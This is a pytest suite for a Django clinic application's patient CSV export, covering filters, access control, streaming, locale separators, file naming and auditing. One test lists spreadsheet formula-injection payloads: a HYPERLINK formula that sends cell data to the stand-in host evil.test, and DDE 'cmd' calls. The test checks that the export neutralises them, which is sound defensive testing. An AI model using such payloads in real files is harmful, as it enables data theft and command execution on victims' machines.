"""CSV export of the registry: the rows of each filter, Excel-friendly, no formula injection."""

import asyncio
import csv
import io

import pytest
from asgiref.sync import async_to_sync
from django.core.handlers.asgi import ASGIHandler
from django.core.signals import request_finished, request_started
from django.db import close_old_connections
from django.urls import reverse
from django.utils import timezone

from consulta.audit.models import AuditEvent
from consulta.patients import export as export_module
from consulta.patients.imports.services import patient_import_run
from consulta.patients.models import Patient
from tests.patients.conftest import VALID_CF, add_patient, body, pieces

State = Patient.State
Reason = Patient.ArchiveReason
BOM = "\ufeff"
HEADER = [
    "Last name",
    "First name",
    "Codice fiscale",  # what the cast's Italian clinic calls the national identifier
    "Date of birth",
    "Email",
    "Mobile phone",
    "State",
    "Associated doctor",
    "Archived on",
    "Reason for archiving",
]


def export(client, selection=None):
    params = {} if selection is None else {"filter": selection}
    return client.get(reverse("patient_export"), params)


def rows(response) -> list[list[str]]:
    text = body(response)
    assert text.startswith(BOM)
    delimiter = ";" if ";" in text[1:].split("\r\n", 1)[0] else ","
    return list(csv.reader(io.StringIO(text[1:]), delimiter=delimiter))


def last_names(response) -> list[str]:
    table = rows(response)
    assert table[0] == HEADER
    return [row[0] for row in table[1:]]


@pytest.fixture
def registry(cast, network):
    """The cast's doctor's patients in every state, the group colleague's, a network
    colleague's (the `network` fixture's Galli) and a stranger's."""
    return {
        "temporary": add_patient(cast.doctor, "Tea", "Temporanea", state=State.SSN_TEMPORARY),
        "private": add_patient(cast.doctor, "Pio", "Privato", state=State.PRIVATE),
        "revoked": add_patient(
            cast.doctor, "Rita", "Revocata", state=State.SSN_REVOKED, archived=Reason.SSN_REVOKED
        ),
        "deceased": add_patient(
            cast.doctor, "Dino", "Defunto", state=State.SSN_DECEASED, archived=Reason.SSN_DECEASED
        ),
        "other": add_patient(
            cast.doctor, "Olga", "Altrove", archived=Reason.OTHER, archive_note="Moved"
        ),
        "colleague_temporary": add_patient(
            cast.doctor2, "Tito", "Transito", state=State.SSN_TEMPORARY
        ),
        "colleague_private": add_patient(cast.doctor2, "Pina", "Pagante", state=State.PRIVATE),
        "colleague_deceased": add_patient(
            cast.doctor2, "Dora", "Deceduta", state=State.SSN_DECEASED, archived=Reason.SSN_DECEASED
        ),
    }


ALL = [
    "Altrove",
    "Conti",
    "Deceduta",
    "Defunto",
    "Esposito",
    "Galli",
    "Pagante",
    "Privato",
    "Revocata",
    "Temporanea",
    "Transito",
]


@pytest.mark.parametrize(
    ("selection", "expected"),
    [
        (None, ALL),
        ("all", ALL),
        ("group", ["Conti", "Esposito", "Temporanea", "Transito"]),
        ("deceased", ["Deceduta", "Defunto"]),
        ("revoked", ["Revocata"]),
        ("private", ["Pagante", "Privato"]),
        ("archived", ["Altrove", "Deceduta", "Defunto", "Revocata"]),
    ],
)
def test_each_filter_exports_its_patients(client, login, cast, registry, selection, expected):
    login(cast.doctor)
    response = export(client, selection)
    assert response.status_code == 200
    assert last_names(response) == expected


def test_the_ssn_filter_exports_my_active_and_temporary_patients(client, login, cast, registry):
    """ "Pazienti SSN (attivi e temporanei)" is the export of the first tab, "Pazienti SSN"
    (My patients: "dove troverai i tuoi assistiti"); the group practice has its own filter."""
    login(cast.doctor)
    assert last_names(export(client, "ssn")) == ["Esposito", "Temporanea"]


def test_secretary_exports_the_patients_of_the_teams_they_serve(client, login, cast, registry):
    registry_team = cast.clinic.care_teams.get(kind="GROUP")
    registry_team.members.add(cast.secretary)
    login(cast.secretary)
    assert last_names(export(client, "group")) == ["Conti", "Esposito", "Temporanea", "Transito"]
    assert "Galli" not in last_names(export(client, "all"))


def test_a_secretary_in_no_team_exports_nobody(client, login, cast, registry):
    login(cast.secretary)
    assert last_names(export(client, "all")) == []


def test_a_row_carries_the_patients_details(client, login, cast):
    Patient.objects.filter(pk=cast.patient.pk).update(
        national_id=VALID_CF,
        phone="+393331234567",
        date_of_birth="1985-12-10",
        state=State.SSN_REVOKED,
        archived_at=timezone.now(),
        archive_reason=Reason.SSN_REVOKED,
    )
    login(cast.doctor)
    (row,) = [r for r in rows(export(client, "archived"))[1:]]
    assert row == [
        "Esposito",
        "Paolo",
        VALID_CF,
        "1985-12-10",
        "paolo@patients.test",
        "'+393331234567",  # starts with "+": neutralised like a formula
        "National health service, revoked",
        "Anna Rossi",
        timezone.localdate().isoformat(),
        "Registration revoked",
    ]


def test_an_exported_file_imports_again_unchanged(client, login, cast):
    Patient.objects.filter(pk=cast.patient.pk).update(
        national_id=VALID_CF, phone="+393331234567", email="-paolo@patients.test"
    )
    login(cast.doctor)
    content = b"".join(pieces(export(client, "ssn")))
    job = patient_import_run(
        doctor=cast.doctor, filename="export.csv", content=content, format="list"
    )
    assert job.summary == {"new": 0, "updated": 0, "unchanged": 1, "invalid": 0, "archived": 0}
    patient = Patient.objects.get(pk=cast.patient.pk)
    assert (patient.phone, patient.email) == ("+393331234567", "-paolo@patients.test")


def test_the_file_starts_with_the_utf8_bom_and_is_an_attachment(client, login, cast):
    add_patient(cast.doctor, "Zoë", "Ødegård")
    login(cast.doctor)
    response = export(client, "all")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="patients-all-{today}.csv"'
    raw = b"".join(pieces(response))
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "Ødegård;Zoë" not in raw.decode() and "Ødegård,Zoë" in raw.decode()


def test_the_export_streams_in_pieces(client, login, cast):
    Patient.objects.bulk_create(
        Patient(clinic=cast.clinic, doctor=cast.doctor, first_name="N", last_name=f"P{i:04d}")
        for i in range(1200)
    )
    login(cast.doctor)
    response = export(client, "all")
    assert response.streaming is True
    with pytest.raises(AttributeError):
        response.content  # noqa: B018 - a streaming response has no content in one piece
    sent = [piece for piece in pieces(response) if piece]
    assert len(sent) >= 4  # the BOM, then the rows a few hundred at a time
    assert max(len(piece) for piece in sent) < 100_000
    assert b"".join(sent).decode().count("\r\n") == 1 + 1200 + 2


def _serve_over_asgi(client, path, query, on_body):
    """Run one GET through Django's ASGI handler, the way `consulta serve` (uvicorn) does,
    calling on_body(chunk) for every piece of the body as it is sent."""
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": query.encode(),
        "headers": [
            (b"host", b"127.0.0.1"),
            (b"cookie", f"sessionid={client.cookies['sessionid'].value}".encode()),
        ],
        "client": ("127.0.0.1", 50000),
        "server": ("127.0.0.1", 8000),
    }
    requested = False

    async def receive():
        nonlocal requested
        if not requested:
            requested = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await asyncio.Future()  # the client stays connected

    async def send(message):
        if message["type"] == "http.response.start":
            assert message["status"] == 200
        elif message["type"] == "http.response.body" and message.get("body"):
            on_body(message["body"])

    # As the test client does: keep the test's transaction open across the request.
    request_started.disconnect(close_old_connections)
    request_finished.disconnect(close_old_connections)
    try:
        async_to_sync(ASGIHandler())(scope, receive, send)
    finally:
        request_started.connect(close_old_connections)
        request_finished.connect(close_old_connections)


def test_the_export_streams_through_the_asgi_server_without_holding_the_whole_file(
    client, login, cast, monkeypatch
):
    """Under uvicorn, Django buffers a response whose iterator is synchronous into one list
    before sending a byte (StreamingHttpResponse.__aiter__): memory then grows with the
    registry. The first piece must leave before the database has been read to the end."""
    Patient.objects.bulk_create(
        Patient(clinic=cast.clinic, doctor=cast.doctor, first_name="N", last_name=f"P{i:04d}")
        for i in range(1500)
    )
    # Count what the export reads from the database: rows (Python path) or COPY batches
    # (PostgreSQL), whichever this database uses.
    produced = 0

    def counting(real):
        def wrapper(*args, **kwargs):
            nonlocal produced
            for item in real(*args, **kwargs):
                produced += 1
                yield item

        return wrapper

    monkeypatch.setattr(export_module, "export_rows", counting(export_module.export_rows))
    monkeypatch.setattr(export_module, "copy_batches", counting(export_module.copy_batches))
    read_when_sent = []
    received = []

    def on_body(chunk):
        read_when_sent.append(produced)
        received.append(chunk)

    login(cast.doctor)
    _serve_over_asgi(client, reverse("patient_export"), "filter=all", on_body)
    text = b"".join(received).decode()
    assert text.startswith(BOM) and text.count("\r\n") == 1 + 1500 + 2
    assert produced > 1
    assert read_when_sent[0] < produced, (
        f"nothing was sent before all {produced} pieces had been read from the database"
    )


@pytest.mark.parametrize(
    ("language", "separator"), [("en", ","), ("it", ";"), ("fr", ";"), ("nb", ";")]
)
def test_separator_follows_the_languages_decimal_mark(client, login, cast, language, separator):
    client.cookies["django_language"] = language
    login(cast.doctor)
    text = body(export(client, "all"))
    header = text[1:].split("\r\n", 1)[0]
    assert len(header.split(separator)) == len(HEADER)
    if language == "en":
        assert header == separator.join(HEADER)
    assert f"Esposito{separator}Paolo{separator}" in text


def test_the_clinics_language_sets_the_separator_when_none_was_chosen(client, login, cast):
    login(cast.other_doctor)  # Cabinet Beta speaks French by default
    text = body(export(client, "all"))
    assert "Durand;Luc;" in text


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_cells_that_would_run_as_formulas_are_neutralised(client, login, cast, dangerous):
    add_patient(
        cast.doctor, dangerous, dangerous, email=dangerous, national_id="X" + dangerous[:30]
    )
    login(cast.doctor)
    table = rows(export(client, "all"))
    (row,) = [r for r in table[1:] if r[1].lstrip("'") == dangerous]
    assert row[0] == "'" + dangerous
    assert row[1] == "'" + dangerous
    assert row[4] == "'" + dangerous
    assert row[2] == "X" + dangerous[:30]  # harmless where it does not start the cell


def test_an_unknown_filter_is_404(client, login, cast):
    login(cast.doctor)
    assert export(client, "everything").status_code == 404
    assert not AuditEvent.objects.filter(action="patient.export").exists()


def test_every_export_is_audited(client, login, cast):
    login(cast.doctor)
    body(export(client, "private"))
    event = AuditEvent.objects.get(action="patient.export")
    assert event.actor == cast.doctor.user
    assert event.detail == {"selection": "private"}
    assert event.ip == "127.0.0.1"


def test_another_clinics_doctor_exports_none_of_our_patients(client, login, cast, registry):
    login(cast.other_doctor)
    for selection in ["all", "ssn", "group", "deceased", "revoked", "private", "archived"]:
        names = [row[0] for row in rows(export(client, selection))[1:]]
        assert not set(names) & set(ALL), selection
    assert [row[0] for row in rows(export(client, "all"))[1:]] == ["Durand"]


def test_a_doctor_outside_the_teams_exports_only_their_own(client, login, cast, registry, loner):
    add_patient(loner, "Ugo", "Lontano")
    login(loner)
    assert last_names(export(client, "all")) == ["Lontano"]


@pytest.mark.parametrize("who", ["patient", "other_patient", "clinic_admin", "operator"])
def test_patients_administrators_and_operators_cannot_export(client, login, cast, who):
    login(getattr(cast, who))
    assert export(client, "all").status_code == 404
    assert not AuditEvent.objects.filter(action="patient.export").exists()


@pytest.mark.parametrize(
    ("language", "selection", "name"),
    [
        ("it", "archived", 'filename="pazienti-archivio-'),
        ("fr", "deceased", "filename*=utf-8''patients-d%C3%A9c%C3%A9d%C3%A9s-"),
        ("nb", "group", 'filename="pasienter-gruppepraksis-'),
        ("en", "ssn", 'filename="patients-national-health-service-'),
    ],
)
def test_the_file_is_named_in_the_users_language(client, login, cast, language, selection, name):
    """Accented names go as RFC 6266's filename*, which every browser reads."""
    login(cast.doctor)
    client.cookies["django_language"] = language
    disposition = export(client, selection)["Content-Disposition"]
    assert disposition.startswith(f"attachment; {name}")
    assert disposition.rstrip('"').endswith(f"-{timezone.localdate().isoformat()}.csv")
